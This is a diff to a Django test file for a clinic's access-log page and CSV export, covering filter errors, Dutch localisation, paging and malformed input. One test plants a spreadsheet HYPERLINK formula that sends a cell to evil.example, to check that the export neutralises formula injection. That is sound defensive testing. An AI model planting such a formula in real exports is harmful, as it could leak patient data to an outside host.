@@ -116,7 +116,7 @@ def test_the_user_filter_offers_the_practice_staff_and_no_patients(
     root = UserFactory(practice=practice, is_superuser=True, role="", email="root@noord.test")
     client.force_login(practice_admin)
 
-    offered = client.get(reverse("clinic:access_log")).context["filter_form"].fields["user"].queryset
+    offered = client.get(reverse("clinic:access_log")).context["filter"].form.fields["user"].queryset
 
     assert set(offered) == {practice_admin, therapist, root}
 
@@ -124,7 +124,7 @@ def test_the_user_filter_offers_the_practice_staff_and_no_patients(
 def test_period_end_before_start_is_refused(client, practice_admin, log):
     client.force_login(practice_admin)
     response = client.get(reverse("clinic:access_log"), {"start": "2026-02-01", "end": "2026-01-01"})
-    assert response.context["filter_form"].errors["end"]
+    assert response.context["filter"].form.errors["end"]
 
 
 def test_csv_export_has_only_own_filtered_entries_and_is_logged(client, practice_admin, log):
@@ -136,6 +136,44 @@ def test_csv_export_has_only_own_filtered_entries_and_is_logged(client, practice
     assert "Sanne Noord" in patients
     assert "Kees Zuid" not in patients
     assert AccessLogEntry.objects.filter(user=practice_admin, action=AccessAction.EXPORT).exists()
+
+
+def csv_rows(response):
+    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(client, practice_admin, therapist):
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
+    patient = PatientFactory(practice=therapist.practice, first_name=formula, last_name="@SUM(1+1)")
+    entry(therapist, patient)
+    client.force_login(practice_admin)
+
+    rows = csv_rows(client.get(reverse("clinic:access_log_export"), {"action": "read"}))
+
+    cells = [cell for row in rows for cell in row]
+    assert f"'{formula} @SUM(1+1)" in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_csv_speaks_the_downloaders_language_in_the_practices_local_time(client, practice_admin, therapist, log):
+    client.force_login(practice_admin)
+    with translation.override("nl"):
+        rows = csv_rows(client.get(reverse("clinic:access_log_export"), {"action": "update"}))
+
+    header, row = rows[0], rows[1]
+    assert header[:7] == ["wanneer", "gebruiker", "rol", "patiënt", "handeling", "deel van het dossier", "uitkomst"]
+    assert row[2] == "Therapeut" and row[4] == "Wijzigen" and row[5] == "Intake" and row[6] == "Gelukt"
+    local = timezone.localtime(log["old"].occurred_at)
+    assert row[0] == local.strftime("%Y-%m-%d %H:%M:%S") + local.strftime("%z")[:3] + ":" + local.strftime("%z")[3:]
+
+
+def test_an_export_with_a_filter_it_cannot_take_goes_back_to_the_page_that_says_why(client, practice_admin, log):
+    client.force_login(practice_admin)
+    response = client.get(reverse("clinic:access_log_export"), {"end": "9999-12-31", "action": "read"})
+    assert response.status_code == 302
+    page = client.get(response["Location"])
+    assert page.context["filter"].form.errors["end"]
+    assert not AccessLogEntry.objects.filter(user=practice_admin, action=AccessAction.EXPORT).exists()
 
 
 @pytest.mark.parametrize("role", ["therapist", "patient_user"])
@@ -184,5 +222,21 @@ def test_the_log_pages_newest_first_without_counting_the_whole_log(client, pract
     # page 2 holds the rest: the ten oldest of ours and the admin's own looks at the log just now
     assert set(entries[:10]) <= set(second.context["object_list"])
     assert "?page=1" in second.text and "?page=3" not in second.text
-    assert client.get(url, {"page": 9}).status_code == 404
-    assert client.get(url, {"page": "last"}).status_code == 404
+    for page in (9, "last", "0", "-3", "99999999999999999999", "x" * 5000):
+        shown = client.get(url, {"page": page})
+        assert shown.context["page_obj"].number == 1, page
+        assert "Die pagina bestaat niet" in shown.text
+
+
+@pytest.mark.parametrize(
+    "params",
+    [{"start": "0001-01-01"}, {"end": "9999-12-31"}, {"patient": "x" * 5000}, {"user": "99999999999999999999"}],
+)
+def test_a_filter_value_the_log_cannot_take_is_explained_the_rest_still_filters(client, practice_admin, log, params):
+    client.force_login(practice_admin)
+
+    response = client.get(reverse("clinic:access_log"), {**params, "action": "update"})
+
+    assert response.status_code == 200
+    assert response.context["filter"].form.errors[next(iter(params))]
+    assert set(response.context["object_list"]) == {log["old"]}
